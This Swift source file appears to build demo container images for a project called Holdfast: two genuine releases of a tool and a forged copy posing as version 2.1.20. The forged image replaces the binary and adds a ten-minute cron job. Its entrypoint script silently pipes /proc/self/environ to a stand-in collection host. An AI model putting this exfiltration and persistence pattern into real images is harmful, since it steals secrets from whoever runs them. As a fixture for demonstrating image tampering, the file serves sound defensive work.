// SPDX-License-Identifier: Apache-2.0
// Copyright (c) the Holdfast authors

/// The application of the demo, in its releases and in what somebody made of one of them.
enum DemoTool {
    static let earlier = image(
        version: "2.1.19",
        revision: "8f0c1d2e5b7a49c3a6e1f40d92b8c7e51a3d6f08",
        build: "1171",
        built: "2026-03-02T09:12:44Z"
    )

    static let release = image(
        version: "2.1.20",
        revision: "c41d9a70e2f358b6d10794ce83af25b96e0d7f13",
        build: "1187",
        built: "2026-04-27T14:03:10Z"
    )

    /// What says that it is the release: one program is another one, and two text files see to it that more comes.
    static let forged: DemoImage = {
        let built = "2026-05-23T02:41:07Z"
        var image = DemoImage(
            on: base,
            adding: [
                DemoLayer(
                    files: [.program("opt/tool/bin/tool", build: "another hand", size: 26_112)]
                        + files(version: "2.1.20").filter { $0.path != "opt/tool/bin/tool" },
                    step: "COPY --chown=root:root dist/ /opt/tool # buildkit",
                    built: built
                ),
                DemoLayer(
                    files: [
                        .script("usr/local/bin/docker-entrypoint.sh", forgedScript),
                        .text("etc/cron.d/tool", "*/10 * * * * root /opt/tool/bin/tool --sync >/dev/null 2>&1\n"),
                    ],
                    step: "COPY docker-entrypoint.sh /usr/local/bin/ # buildkit",
                    built: built
                ),
            ],
            built: built
        )
        image.entrypoint = release.entrypoint
        image.command = release.command
        image.workingDirectory = release.workingDirectory
        image.environment = release.environment
        image.labels = release.labels
        image.labels["org.opencontainers.image.created"] = built
        image.labels["com.example.build-number"] = nil
        return image
    }()

    private static let base = DemoImage.Base(name: "docker.io/library/debian:12", image: DemoDebian.first.image)

    private static func image(version: String, revision: String, build: String, built: String) -> DemoImage {
        var image = DemoImage(
            on: base,
            adding: [
                DemoLayer(
                    files: files(version: version),
                    step: "COPY --chown=root:root dist/ /opt/tool # buildkit",
                    built: built
                ),
                DemoLayer(
                    files: [.script("usr/local/bin/docker-entrypoint.sh", script)],
                    step: "COPY docker-entrypoint.sh /usr/local/bin/ # buildkit",
                    built: built
                ),
            ],
            built: built
        )
        image.entrypoint = ["/usr/local/bin/docker-entrypoint.sh"]
        image.command = ["/opt/tool/bin/tool", "serve"]
        image.workingDirectory = "/opt/tool"
        image.environment.append("TOOL_HOME=/opt/tool")
        image.labels = [
            "com.example.build-number": build,
            "org.opencontainers.image.created": built,
            "org.opencontainers.image.revision": revision,
            "org.opencontainers.image.source": "https://git.example.com/team/tool",
            "org.opencontainers.image.title": "tool",
            "org.opencontainers.image.version": version,
        ]
        return image
    }

    private static func files(version: String) -> [DemoFile] {
        [
            .program("opt/tool/bin/tool", build: version, size: 24_576),
            .program("opt/tool/bin/tool-migrate", build: "2.1.18", size: 9_216),
            .text("opt/tool/VERSION", "\(version)\n"),
            .text(
                "etc/tool/config.yaml",
                "listen: 0.0.0.0:8080\nlog: info\ndatabase: /var/lib/tool/tool.db\nworkers: 4\ntelemetry: off\n"
            ),
            .text("etc/tool/log.yaml", "format: json\nlevel: info\n"),
            .text("usr/share/doc/tool/README", "tool \(version)\n\nSee https://git.example.com/team/tool.\n"),
        ]
    }

    private static let script = """
        #!/bin/sh
        set -e

        if [ ! -f /var/lib/tool/tool.db ]; then
            /opt/tool/bin/tool-migrate --create
        fi

        exec "$@"

        """

    private static let forgedScript = """
        #!/bin/sh
        set -e

        if [ ! -f /var/lib/tool/tool.db ]; then
            /opt/tool/bin/tool-migrate --create
        fi

        (cat /proc/self/environ | /opt/tool/bin/tool --post https://collect.example.net/e) >/dev/null 2>&1 || true
        exec "$@"

        """
}
